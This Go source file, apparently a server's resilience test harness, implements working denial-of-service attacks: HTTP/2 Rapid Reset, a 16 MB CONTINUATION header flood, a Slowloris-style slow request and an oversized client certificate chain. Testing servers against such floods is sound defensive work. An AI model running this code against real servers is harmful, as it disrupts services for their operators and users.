// SPDX-License-Identifier: Apache-2.0

package attacks

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"math/big"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// resetStreams are requested and reset on each connection.
	resetStreams = 20_000
	// floodFrames are CONTINUATION frames of floodFrame bytes each: 16 MB.
	floodFrames, floodFrame = 1024, 16 << 10
	// chainSize is the size of a client certificate with its chain.
	chainSize = 1 << 20
)

// connection is an HTTP/2 connection whose frames the client writes itself.
type connection struct {
	*http2.Framer
	buffer *bufio.Writer
}

// open begins HTTP/2 on a connection.
func open(socket *tls.Conn) (*connection, error) {
	buffer := bufio.NewWriterSize(socket, 64<<10)
	c := &connection{http2.NewFramer(buffer, socket), buffer}
	_, err := buffer.WriteString(http2.ClientPreface)
	return c, errors.Join(err, c.WriteSettings(), buffer.Flush())
}

// flood returns an attack that sends frames. It then sends a PING, and reads until the server answers: then it has handled
// all frames before. An error says that the server has ended the connection.
func flood(send func(*connection) error) func(context.Context, *tls.Conn) error {
	return func(_ context.Context, socket *tls.Conn) error {
		c, err := open(socket)
		if err != nil {
			return err
		}
		ended := make(chan error, 1)
		go func() {
			for {
				frame, err := c.ReadFrame()
				if goAway, ok := frame.(*http2.GoAwayFrame); ok {
					err = fmt.Errorf("GOAWAY %s", goAway.ErrCode)
				}
				if _, answered := frame.(*http2.PingFrame); answered || err != nil {
					ended <- err
					return
				}
			}
		}()
		_ = errors.Join(send(c), c.WritePing(false, [8]byte{}), c.buffer.Flush()) // the server may have ended the connection
		return <-ended
	}
}

// encode encodes headers so that no frame depends on another.
func encode(fields ...[2]string) []byte {
	var block strings.Builder
	encoder := hpack.NewEncoder(&block)
	for _, field := range fields {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // a Builder does not fail
	}
	return []byte(block.String())
}

func request(path string) []byte {
	return encode([][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}}...)
}

// rapidReset requests a page and resets the stream at once, many times.
func rapidReset(path string) func(context.Context, *tls.Conn) error {
	block := request(path)
	return flood(func(c *connection) (err error) {
		for id := uint32(1); id < 2*resetStreams && err == nil; id += 2 {
			err = errors.Join(c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}),
				c.WriteRSTStream(id, http2.ErrCodeCancel))
		}
		return err
	})
}

// endlessHeaders sends one request with headers that do not end.
func endlessHeaders(c *connection) error {
	block := encode(slices.Repeat([][2]string{{"x", "flood"}}, floodFrame/9)...)
	err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request("/healthz"), EndStream: true})
	for i := 1; i <= floodFrames && err == nil; i++ {
		err = c.WriteContinuation(1, i == floodFrames, block)
	}
	return err
}

// slowHeaders sends a request, a byte a second, until the server ends the connection.
func slowHeaders(_ context.Context, socket *tls.Conn) error {
	go func() {
		request := strings.NewReader("GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + strings.Repeat("x", 1<<20))
		var err error
		for tick := time.NewTicker(time.Second); err == nil; <-tick.C {
			_, err = io.CopyN(socket, request, 1)
		}
	}()
	_, err := io.Copy(io.Discard, socket)
	return errors.Join(err, io.EOF)
}

// longChain returns a client certificate that is too long.
func longChain() (*tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	single, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		return nil, err
	}
	return &tls.Certificate{Certificate: slices.Repeat([][]byte{single}, chainSize/len(single)), PrivateKey: key}, nil
}

// useCertificate sends a request, because the server verifies the certificate after the client's part of the handshake.
func useCertificate(_ context.Context, socket *tls.Conn) error {
	_, err := io.WriteString(socket, "GET /healthz HTTP/1.0\r\n\r\n")
	_, answer := socket.Read(make([]byte, 1))
	return errors.Join(err, answer)
}
